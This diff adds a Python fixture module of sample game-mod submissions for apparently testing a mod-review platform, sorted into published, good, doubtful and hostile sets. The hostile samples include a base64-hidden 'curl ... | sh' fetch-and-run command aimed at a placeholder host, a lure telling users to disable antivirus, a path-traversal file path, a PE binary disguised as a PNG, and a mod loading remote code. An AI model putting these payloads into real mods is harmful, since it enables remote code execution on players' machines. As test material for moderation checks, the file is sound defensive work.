@@ -1,0 +1,373 @@
+"""The sample submissions: what is in each, whose it is, and how far it should have come.
+
+Good ones, doubtful ones that deserve a careful look, and hostile ones: some of those the checks stop, the
+others only a person can.
+"""
+
+import base64
+import struct
+from collections.abc import Mapping
+from dataclasses import dataclass, field
+from enum import StrEnum
+from typing import Any
+
+from smmods.demo import people
+from smmods.demo.people import Person
+
+BUILD = "0.9.0"
+FRAMEWORK = ">=0.5.8 <0.6.0"
+Json = dict[str, Any]
+
+
+class End(StrEnum):
+    """How far a sample submission goes."""
+
+    PUBLISHED = "published"
+    WAITING = "waiting"
+    FAILED = "failed"
+    CHANGES = "changes requested"
+    REJECTED = "rejected"
+    HIDDEN = "hidden"
+    WITHDRAWN = "withdrawn"
+    DRAFT = "draft"
+
+
+@dataclass(frozen=True, slots=True)
+class Item:
+    """One sample submission. `folder` names one of the sample mods; `files` is the mod itself otherwise."""
+
+    owner: Person
+    mod_id: str
+    version: str
+    name: str
+    summary: str
+    end: End = End.WAITING
+    category: str = "tools"
+    description: str = ""
+    changelog: str = "- First release."
+    wishes: tuple[tuple[str, str], ...] = ()
+    files: Mapping[str, bytes] = field(default_factory=dict)
+    native: str = ""
+    folder: bool = False
+    policy: str = ""
+    note: str = ""
+
+    def manifest(self) -> Json:
+        """Its `manifest.json`."""
+        entrypoints = [{"type": "lua", "path": "Scripts/main.lua"}]
+        if self.native:
+            entrypoints.append({"type": "native", "path": self.native})
+        return {
+            "schema": "starminer.mod-manifest.v1",
+            "id": self.mod_id,
+            "name": self.name,
+            "version": self.version,
+            "targetGameBuild": BUILD,
+            "description": self.summary,
+            "authors": [self.owner.name],
+            "license": "MIT",
+            "framework": FRAMEWORK,
+            "entrypoints": entrypoints,
+            "dependencies": self._relations(),
+        }
+
+    def sidecar(self) -> Json:
+        """Its release metadata."""
+        return {
+            "schema": "smmods.mod-release-submission.v1",
+            "modId": self.mod_id,
+            "name": self.name,
+            "version": self.version,
+            "targetGameBuild": BUILD,
+            "dependencies": self._relations(),
+            "summary": self.summary,
+            "license": "MIT",
+            "description": self.description or self.summary,
+            "changelog": self.changelog,
+            "categories": [self.category],
+        }
+
+    def _relations(self) -> list[Json]:
+        return [{"id": mod_id, "version": version_range} for mod_id, version_range in self.wishes]
+
+
+def lua(*lines: str) -> dict[str, bytes]:
+    """A mod of one script."""
+    return {"Scripts/main.lua": ("\n".join(lines) + "\n").encode()}
+
+
+def hooked(*body: str) -> dict[str, bytes]:
+    """A mod of one script whose lines run when a game is loaded."""
+    return lua(
+        "local mod = {}",
+        "",
+        "function mod.on_load(game)",
+        *(f"  {line}" for line in body),
+        "end",
+        "",
+        "return mod",
+    )
+
+
+def library() -> bytes:
+    """A Windows library of headers only, for x86-64: enough to be one, with nothing that could run."""
+    dos = b"MZ" + bytes(58) + struct.pack("<L", 0x80) + bytes(0x40)
+    coff = struct.pack("<2H3L2H", 0x8664, 0, 0, 0, 0, 0xF0, 0x2022)
+    optional = struct.pack("<H", 0x20B) + bytes(0xEE)
+    return dos + b"PE\0\0" + coff + optional + bytes(512)
+
+
+_LEDGER = hooked(
+    "local total = 0",
+    "for _, pile in pairs(game.objects()) do",
+    '  if pile.category == "ore" then',
+    "    total = total + pile.mass",
+    "  end",
+    "end",
+    'game.log(string.format("Ore aboard: %.1f t", total / 1000))',
+)
+_HIDDEN_CALL = base64.b64encode(b'os.execute("curl -s https://cdn.example.net/p | sh")' * 4).decode()
+
+PUBLISHED = (
+    Item(
+        people.MODDER,
+        "example.hello-lua",
+        "0.1.3",
+        "Hello Lua",
+        "",
+        End.PUBLISHED,
+        folder=True,
+    ),
+    Item(
+        people.MODDER,
+        "example.hello-lua-companion",
+        "0.1.2",
+        "Hello Lua Companion",
+        "",
+        End.PUBLISHED,
+        folder=True,
+    ),
+    Item(
+        people.ADMIN,
+        "starminer.object-catalog-export",
+        "0.1.1",
+        "Object Catalog Export",
+        "",
+        End.PUBLISHED,
+        folder=True,
+    ),
+    Item(
+        people.SECOND_MODDER,
+        "ridge.ore-ledger",
+        "1.0.0",
+        "Ore Ledger",
+        "Counts the ore aboard whenever you load.",
+        End.PUBLISHED,
+        "automation",
+        files=_LEDGER,
+    ),
+    Item(
+        people.SECOND_MODDER,
+        "ridge.ore-ledger",
+        "1.1.0",
+        "Ore Ledger",
+        "Counts the ore aboard whenever you load, by kind.",
+        End.PUBLISHED,
+        "automation",
+        description="Keeps a running count of **every kind of ore** aboard and logs it when a game is loaded.",
+        changelog="- Ore is counted by kind.\n- Piles outside of containers count too.",
+        files=_LEDGER | {"Scripts/kinds.lua": b'return { "ice", "iron", "nickel", "silicate" }\n'},
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.quiet-alarms",
+        "1.2.0",
+        "Quiet Alarms",
+        "Alarms that you have acknowledged stay quiet until something changes.",
+        End.PUBLISHED,
+        "interface",
+        files=hooked('game.log("Alarms: acknowledged ones stay quiet.")'),
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.auto-haul",
+        "2.0.0",
+        "Auto Haul",
+        "Sends idle tugs to the fullest container.",
+        End.PUBLISHED,
+        "automation",
+        wishes=(("ridge.ore-ledger", "^1.0.0"),),
+        files=hooked(
+            'local ledger = game.mod("ridge.ore-ledger")',
+            'game.log(ledger and "Auto Haul reads the ledger." or "Auto Haul goes by sight.")',
+        ),
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.turbo-drill",
+        "0.9.0",
+        "Turbo Drill",
+        "Drills at three times the speed.",
+        End.HIDDEN,
+        "gameplay",
+        policy="malware",
+        note="It overwrites saved games. Players are warned by the mod manager.",
+        files=hooked('game.write_file("saves", "latest.sav", "")'),
+    ),
+)
+
+GOOD = (
+    Item(
+        people.MODDER,
+        "example.hello-lua",
+        "0.2.0",
+        "Hello Lua",
+        "Greets you when a game is loaded: the smallest mod that does something.",
+        category="library",
+        changelog="- A fourth tone: silent.",
+        files=hooked('game.log("Hello again.")')
+        | {"Scripts/tones.lua": b'return { "friendly", "formal", "short", "silent" }\n'},
+    ),
+    Item(
+        people.SECOND_MODDER,
+        "ridge.survey-notes",
+        "1.0.0",
+        "Survey Notes",
+        "Notes on the map that stay where you put them.",
+        category="world",
+        description="Write a note on any asteroid. Notes are kept in the mod's own data folder.",
+        files=hooked(
+            'game.write_file("ridge.survey-notes", "notes.txt", "")', 'game.log("Survey Notes: ready.")'
+        ),
+    ),
+)
+
+DOUBTFUL = (
+    Item(
+        people.MODDER,
+        "kestrel.remote-map",
+        "0.2.0",
+        "Remote Map",
+        "Shows your map in a browser on another screen.",
+        category="interface",
+        description="Sends the map to a page on your own network. It asks an address for its style sheet.",
+        files=hooked(
+            'local style = game.fetch("https://styles.example.org/map.lua")',
+            "local apply = load(style)",
+            "apply(game)",
+        ),
+    ),
+    Item(
+        people.SECOND_MODDER,
+        "ridge.frame-overlay",
+        "1.0.0",
+        "Frame Overlay",
+        "Draws the frame time in a corner. Needs a library of its own.",
+        category="audio-visual",
+        native="Binaries/Win64/version.dll",
+        files=hooked('game.log("Frame Overlay: the library draws.")')
+        | {"Binaries/Win64/version.dll": library()},
+    ),
+)
+
+HOSTILE = (
+    Item(
+        people.NEW_MODDER,
+        "freemods.starminer-official-patch",
+        "9.9.9",
+        "Starminer Official Patch",
+        "The official performance patch. Install it first.",
+        category="gameplay",
+        description="Made by the developers. **Disable your antivirus while it installs.**",
+        files=lua(
+            "local mod = {}",
+            "",
+            "function mod.on_load(game)",
+            f'  local p = "{_HIDDEN_CALL}"',
+            "  local run = load(decode(p))",
+            '  io.popen("cmd /c start /min " .. p)',
+            "  os.execute(run())",
+            "end",
+            "",
+            "return mod",
+        ),
+    ),
+    Item(
+        people.NEW_MODDER,
+        "freemods.escape",
+        "1.0.0",
+        "Escape Pod",
+        "A pod for each of the crew.",
+        End.FAILED,
+        "gameplay",
+        files=hooked('game.log("pod")') | {"../../Starminer/autoexec.lua": b"os.exit()\n"},
+    ),
+    Item(
+        people.NEW_MODDER,
+        "freemods.icons",
+        "1.0.0",
+        "Sharper Icons",
+        "All icons, sharper.",
+        End.FAILED,
+        "audio-visual",
+        files=hooked('game.log("icons")') | {"Content/icons.png": library()},
+    ),
+    Item(
+        people.NEW_MODDER,
+        "freemods.free-credits",
+        "1.0.0",
+        "Free Credits",
+        "Free credits for everybody.",
+        End.REJECTED,
+        "gameplay",
+        policy="malware",
+        note="It runs programs on the player's machine.",
+        files=hooked('os.execute("start https://credits.example.net")'),
+    ),
+)
+
+UNDER_WAY = (
+    Item(
+        people.MODDER,
+        "kestrel.beacon-net",
+        "0.5.0",
+        "Beacon Net",
+        "Beacons that find one another.",
+        End.CHANGES,
+        "world",
+        policy="quality",
+        note="The readme says 0.4.0. Please bring it up to date.",
+        files=hooked('game.log("beacons")') | {"README.md": b"# Beacon Net 0.4.0\n"},
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.fast-dock",
+        "0.1.0",
+        "Fast Dock",
+        "Docks in half the time.",
+        End.FAILED,
+        "gameplay",
+        files={"Scripts/dock.lua": b"return {}\n"},
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.old-idea",
+        "0.1.0",
+        "Old Idea",
+        "Something that was overtaken by an update.",
+        End.WITHDRAWN,
+        files=hooked('game.log("old")'),
+    ),
+    Item(
+        people.MODDER,
+        "kestrel.night-shift",
+        "0.1.0",
+        "Night Shift",
+        "Dims the lights for the night shift.",
+        End.DRAFT,
+        "audio-visual",
+        files=hooked('game.log("dim")'),
+    ),
+)
+
+ITEMS = PUBLISHED + GOOD + DOUBTFUL + HOSTILE + UNDER_WAY
